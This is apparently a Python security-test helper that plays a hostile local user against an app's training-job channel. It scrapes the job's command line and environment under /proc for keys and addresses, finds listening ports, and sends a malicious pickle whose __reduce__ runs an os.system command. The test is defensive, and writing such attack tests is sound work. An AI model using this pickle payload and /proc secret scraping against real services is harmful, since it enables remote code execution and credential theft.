"""Another local user's attack on the job channel, run as its own process:
`python -m tests.process_table_attacker STOP MARKER REPORT` (until the file STOP exists).

It watches the process table for the training job that its parent (the app under test) starts, and only that
one: other studios on the machine are left alone. It reads the job's command line (any local user may) and its
environment (to be strict), and tries to join and feed the channel with whatever it finds there: an address and
key (what the studio once passed on the command line) or any TCP port the job or the app listens on. What it
saw and did is written to REPORT as JSON."""
import json
import os
import pickle
import re
import socket
import sys
import time

HEX_KEY = re.compile(rb"\b[0-9a-f]{32,}\b")
ADDRESS = re.compile(rb"\b(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})\b")


class _Boom:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def _parent(pid: str) -> int:
    stat = _read(f"/proc/{pid}/stat")
    return int(stat.rsplit(b")", 1)[1].split()[1]) if stat else -1


def _listening_ports(pids: set[int]) -> list[int]:
    """TCP ports in LISTEN state whose socket belongs to one of `pids`."""
    inodes = set()
    for pid in pids:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        except OSError:
            pass
    ports = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in _read(table).decode().splitlines()[1:]:
            cols = line.split()
            if len(cols) > 9 and cols[3] == "0A" and cols[9] in inodes:
                ports.append(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


def _attack(host: str, port: int, key: bytes | None, marker: str) -> str:
    payload = pickle.dumps(("metrics", _Boom(marker), []))
    try:
        if key is not None:
            from multiprocessing.connection import Client
            conn = Client((host, port), authkey=key)
            conn.recv_bytes()                          # the spec the app meant for its job
            conn.send_bytes(payload)
            return "joined with the key and sent a pickle"
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(payload)
        return "connected and sent a pickle"
    except Exception as e:  # noqa: BLE001 - every failure is a result here
        return f"refused: {type(e).__name__}"


def main(stop: str, marker: str, report: str) -> None:
    app_pid = os.getppid()
    seen: dict = {"job_seen": False, "secrets": [], "addresses": [], "attempts": []}
    tried = set()
    t_end = time.time() + 900
    while not os.path.exists(stop) and time.time() < t_end:
        for d in os.listdir("/proc"):
            if not d.isdigit() or int(d) == os.getpid():
                continue
            cmd = _read(f"/proc/{d}/cmdline")
            if b"rlhf_studio.studio.jobs" not in cmd and b"tests.hostile_job" not in cmd or _parent(d) != app_pid:
                continue                  # only the job of the app under test: other studios are left alone
            seen["job_seen"] = True
            seen["argv"] = [a.decode(errors="replace") for a in cmd.split(b"\0") if a]
            own = {k.encode() + b"=" + v.encode() for k, v in os.environ.items()}
            added = [e for e in _read(f"/proc/{d}/environ").split(b"\0") if e and e not in own]
            seen["env_added"] = sorted({e.split(b"=", 1)[0].decode() for e in added})
            text = b"\0".join([cmd] + added)          # what the job was given beyond our own environment
            keys = HEX_KEY.findall(text)
            addrs = ADDRESS.findall(text)
            seen["secrets"] = sorted({k.decode()[:8] + "..." for k in keys} | set(seen["secrets"]))
            seen["addresses"] += [f"{h.decode()}:{p.decode()}" for h, p in addrs]
            targets = [(h.decode(), int(p), bytes.fromhex(k.decode()) if len(k) % 2 == 0 else None)
                       for h, p in addrs for k in keys[:1]]
            targets += [("127.0.0.1", p, None) for p in _listening_ports({int(d), app_pid})]
            for host, port, key in targets:
                if (port, key) not in tried:
                    tried.add((port, key))
                    seen["attempts"].append(f"{host}:{port} " + _attack(host, port, key, marker))
        time.sleep(0.02)
    seen["addresses"] = sorted(set(seen["addresses"]))
    with open(report, "w") as f:
        json.dump(seen, f)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3])
